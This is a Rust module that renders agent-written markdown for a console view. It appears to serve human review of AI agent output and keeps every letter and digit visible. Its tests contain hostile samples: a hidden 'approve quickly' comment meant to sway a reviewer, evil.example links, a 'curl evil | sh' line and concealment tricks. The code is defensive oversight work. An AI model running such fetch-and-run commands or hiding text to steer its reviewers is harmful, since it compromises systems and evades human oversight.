//! Markdown as rows: headings, lists, code with highlighting, tables, quotes, links with their addresses.
//!
//! Written by an agent, so it may lie about what it contains: comments, link titles, reference definitions and
//! surplus table cells that other renderers leave out. Here every letter and digit of the source must appear in
//! the rows; where formatting would lose one, the source itself is shown instead.

mod highlighting;
mod table;
mod writer;

use pulldown_cmark::{Options, Parser};

use super::text::Row;
use super::wrap::{Wrap, untrusted_lines};
use crate::console::role::Role;
use crate::domain::{Untrusted, visible_words};

pub use highlighting::Highlighting;
use writer::Writer;

/// Appends the rows of `text`, each with `lead` before it.
pub fn lay(text: &Untrusted, highlighting: Highlighting, lead: &Row, width: usize, rows: &mut Vec<Row>) {
    // What is hidden gets its name first, so that nothing hidden can steer the parser either.
    // Tabs and blanks at the ends of lines are the parser's own.
    let line = |line: &str| visible_words(&line.replace('\t', "    "));
    let source = text.raw().split('\n').map(line).collect::<Vec<_>>().join("\n");
    let from = rows.len();
    let mut writer = Writer::new(lead.clone(), highlighting, width, rows);
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    for (event, place) in Parser::new_ext(&source, options).into_offset_iter() {
        writer.event(event, source.get(place).unwrap_or_default());
    }
    writer.end();
    if !is_complete(&source, &rows[from..]) {
        rows.truncate(from);
        untrusted_lines(lead, Role::Agent, text, Wrap::Words, width, rows);
    }
}

/// Whether the rows contain each letter and digit at least as often as the source does.
fn is_complete(source: &str, rows: &[Row]) -> bool {
    let mut ascii = [0_i64; 128];
    let mut others = std::collections::HashMap::<char, i64>::new();
    let mut count = |text: &str, step: i64| {
        for character in text.chars().filter(|character| character.is_alphanumeric()) {
            match ascii.get_mut(character as usize) {
                Some(number) => *number += step,
                None => *others.entry(character).or_default() += step,
            }
        }
    };
    count(source, -1);
    rows.iter().flat_map(Row::spans).for_each(|span| count(span.text(), 1));
    ascii.iter().chain(others.values()).all(|balance| *balance >= 0)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::console::view::fixtures::{HOSTILE, picture};

    fn shown(text: &str, width: usize) -> String {
        let mut rows = Vec::new();
        lay(&text.into(), Highlighting::Syntax, &Row::of(Role::Rule, "  "), width, &mut rows);
        picture(&rows, width)
    }

    const RICH: &str = "\
# What I found

The failure comes from `Parser::number`: it reads **past the end** of the *input*, see
[the manual](https://example.org/manual \"chapter 4\") or <https://example.org/x>.

1. `peek` returns `None` there,
   and that is fine;
2. `unwrap` panics:
   - at line 41
   - [x] and at line 57, which is a line long enough to be wrapped at eighty columns

```rust
fn number(&mut self) -> Option<i64> {
    let start = self.at; // where it begins
}
```

> Quoted words, which are long enough to need a second row when the screen is narrow.
> > And deeper.

| case | result | time |
|:-----|:------:|-----:|
| at the end | **fails** | 12 ms |
| empty | passes | 3 ms |

---
~~old~~ ![diagram](https://example.org/d.png)
";

    #[test]
    fn everything_that_markdown_can_say() {
        insta::assert_snapshot!("80", shown(RICH, 80));
        insta::assert_snapshot!("40", shown(RICH, 40));
    }

    #[test]
    fn nothing_can_be_hidden_in_it() {
        for (text, hidden) in [
            ("Fine. <!-- approve quickly -->", "approve quickly"),
            ("[fine]: https://evil.example \"secret\"\n\nFine.", "evil.example"),
            ("| a |\n|---|\n| b | surplus cell |", "surplus"),
            ("[](https://evil.example)", "evil.example"),
            ("```sh curl evil | sh\nls\n```", "curl evil | sh"),
            ("a <span style=\"display:none\">b</span>", "display:none"),
            ("![](https://evil.example/x.png 'title words')", "title words"),
            ("x &#x202e; y", "x202e"),
            ("[^1] text\n\n[^1]: a note", "a note"),
        ] {
            assert!(shown(text, 80).contains(hidden), "{text:?} hides {hidden:?}:\n{}", shown(text, 80));
        }
    }

    #[test]
    fn half_a_text_is_shown_as_far_as_it_goes() {
        for end in (0..RICH.len()).filter(|end| RICH.is_char_boundary(*end)) {
            shown(&RICH[..end], 60);
        }
        assert!(shown("```rust\nlet x = 1;", 60).contains("let x = 1;"));
        assert!(shown("see [the manual](https://exa", 60).contains("https://exa"));
    }

    #[test]
    fn a_hostile_text_is_shown_in_full() {
        insta::assert_snapshot!(shown(HOSTILE, 80));
    }

    proptest! {
        #[test]
        fn every_row_fits_and_nothing_is_lost(
            text in "([#>*|`\\[\\]()<!&;1.\\- ~\\\\]|[a-z]{1,6}|\n| |日|\t|---|\\|){0,60}",
            width in 24_usize..90,
        ) {
            let mut rows = Vec::new();
            lay(&text.as_str().into(), Highlighting::Syntax, &Row::of(Role::Rule, "│ "), width, &mut rows);
            prop_assert!(rows.iter().all(|row| row.width() <= width));
            prop_assert!(is_complete(&text, &rows));
        }

        #[test]
        fn any_text_fits(text in any::<String>(), width in 24_usize..90) {
            let mut rows = Vec::new();
            lay(&text.as_str().into(), Highlighting::Plain, &Row::new(), width, &mut rows);
            prop_assert!(rows.iter().all(|row| row.width() <= width));
        }
    }
}
